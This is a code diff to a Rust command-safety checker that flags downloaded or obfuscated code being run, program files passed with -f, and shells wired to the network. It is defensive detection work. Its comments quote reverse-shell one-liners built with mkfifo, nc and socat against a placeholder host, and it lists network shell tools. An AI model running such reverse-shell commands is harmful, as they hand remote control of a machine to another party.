@@ -1,7 +1,9 @@
 //! Code that nobody has read before it runs: downloads, and encoded text.
 
 use crate::policy::commands::scope::resolve;
-use crate::policy::commands::{Field, Found, Obstacle, UNKNOWN, base_name, is_interpreter, is_shell};
+use crate::policy::commands::{
+    Field, Found, Obstacle, UNKNOWN, base_name, is_interpreter, is_shell, only_checks,
+};
 use crate::policy::decision::{Danger, Effect};
 
 pub(super) fn find(command: &Found) -> Option<Danger> {
@@ -9,6 +11,9 @@ pub(super) fn find(command: &Found) -> Option<Danger> {
     let is_code = command.obstacles.iter().any(|obstacle| matches!(obstacle, Obstacle::UnknownCode(_)));
     if is_code && command.input.is_downloaded {
         return runs_unseen();
+    }
+    if only_checks(command.base_name().unwrap_or_default(), &command.words) {
+        return None;
     }
     if is_code && command.input.is_disguised {
         return Some(Danger::new(Effect::Download, "run text that was made unreadable"));
@@ -70,13 +75,23 @@ fn reads_code(name: &str, command: &Found) -> bool {
             || command.words.iter().any(|field| {
                 field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains('s')
             });
-        return reads && !has_code && !has_flag(&["-n", "--version", "--help"]);
+        return reads
+            && !has_code
+            && !has_flag(&["--version", "--help"])
+            && !(matches!(name, "fish" | "csh" | "tcsh") && has_flag(&["-n"]));
     }
     match name {
         "source" | "." => operands
             .first()
             .is_some_and(|path| path.starts_with("/dev/stdin") || *path == "/dev/fd/0" || *path == "-"),
         "at" | "batch" | "crontab" | "parallel" => true,
+        name if reads_program_file(name) => {
+            let is_input = |file: &str| matches!(file, "-" | "/dev/stdin" | "/dev/fd/0");
+            program_files(&command.words).into_iter().any(is_input)
+        }
+        "irb" | "iex" | "julia" | "ghci" | "erl" | "expect" | "R" => {
+            operands.is_empty() && !has_flag(&["-e", "--eval", "--version"]) || operands.first() == Some(&"-")
+        }
         "xargs" => false,
         "python" | "python2" | "python3" | "perl" | "ruby" | "node" | "nodejs" | "php" | "lua" | "deno"
         | "bun" | "osascript" | "tclsh" | "Rscript" | "ts-node" | "tsx" => {
@@ -98,12 +113,22 @@ fn runs_file(command: &Found, name: &str) -> bool {
     if command.downloads.is_empty() {
         return false;
     }
+    let is_known = |text: &str| {
+        let path = resolve(command.directory.as_deref().or(Some("/?")), text);
+        path.is_some_and(|path| command.downloads.contains(&path))
+    };
+    if reads_program_file(name) {
+        let is_make = name.ends_with("make");
+        let named = program_files(&command.words);
+        let has_name = !named.is_empty();
+        return named.into_iter().any(is_known)
+            || is_make && !has_name && ["Makefile", "makefile", "GNUmakefile"].into_iter().any(is_known);
+    }
     let is_download = |field: &Field| {
-        if field.text.chars().eq([UNKNOWN]) {
+        if !field.text.is_empty() && field.text.chars().all(|char| char == UNKNOWN) {
             return command.downloads.contains(&field.text);
         }
-        let path = resolve(command.directory.as_deref().or(Some("/?")), &field.text);
-        path.is_some_and(|path| command.downloads.contains(&path))
+        is_known(&field.text)
     };
     if command.words.first().is_some_and(|field| field.text.contains('/') && is_download(field)) {
         return true;
@@ -126,6 +151,65 @@ fn runs_file(command: &Found, name: &str) -> bool {
         );
     is_runner
         && command.words.iter().skip(1).find(|field| !field.text.starts_with('-')).is_some_and(is_download)
+}
+
+/// Returns whether the option `-f` of a program names a file with the commands that it runs.
+fn reads_program_file(name: &str) -> bool {
+    matches!(name, "make" | "gmake" | "awk" | "gawk" | "mawk" | "nawk" | "sed" | "gsed")
+}
+
+/// Returns the files of `-f file`, `-ffile`, `--file=file` and `--makefile file`.
+fn program_files(words: &[Field]) -> Vec<&str> {
+    let files = words.iter().enumerate().skip(1).filter_map(|(at, field)| {
+        let next = || words.get(at + 1).map(|field| field.text.as_str());
+        let value = match field.text.strip_prefix("--") {
+            Some(long) => {
+                let (name, value) =
+                    long.split_once('=').map_or((long, None), |(name, value)| (name, Some(value)));
+                let is_named =
+                    name.len() > 1 && ["file", "makefile"].iter().any(|option| option.starts_with(name));
+                return if is_named { value.or_else(next) } else { None };
+            }
+            None => field.text.strip_prefix('-')?.split_once('f')?.1,
+        };
+        if value.is_empty() { next() } else { Some(value) }
+    });
+    files.collect()
+}
+
+/// Returns whether a shell and a program of the network are joined by a named pipe: `mkfifo p; sh < p | nc host 1 > p`.
+pub(super) fn joins_shell_and_network(commands: &[Found]) -> bool {
+    let path =
+        |field: &Field, command: &Found| resolve(command.directory.as_deref().or(Some("/?")), &field.text);
+    let pipes: Vec<String> = commands
+        .iter()
+        .filter(|command| matches!(command.base_name(), Some("mkfifo" | "mknod")))
+        .flat_map(|command| command.words.iter().skip(1).filter_map(|field| path(field, command)))
+        .collect();
+    if pipes.is_empty() {
+        return false;
+    }
+    let is_pipe =
+        |field: &Field, command: &Found| path(field, command).is_some_and(|path| pipes.contains(&path));
+    let is_fed = commands.iter().any(|command| {
+        let gets_download =
+            command.input.is_downloaded || command.base_name().is_some_and(is_network_program);
+        let mut targets = command.redirections.iter().map(|redirect| &redirect.target);
+        let is_tee = command.base_name() == Some("tee");
+        gets_download
+            && (targets.any(|target| is_pipe(target, command))
+                || is_tee && command.words.iter().any(|field| is_pipe(field, command)))
+    });
+    let is_controlled = |command: &Found| {
+        let name = command.base_name().unwrap_or_default();
+        let reads_pipe = command.redirections.iter().any(|redirect| is_pipe(&redirect.target, command));
+        (command.input.is_given || reads_pipe) && is_shell(name) && reads_code(name, command)
+    };
+    is_fed && commands.iter().any(is_controlled)
+}
+
+fn is_network_program(name: &str) -> bool {
+    matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "curl")
 }
 
 /// Returns whether a program of the network hands its connection to a shell: `nc -e /bin/sh`, `socat TCP:host:1 EXEC:sh`.
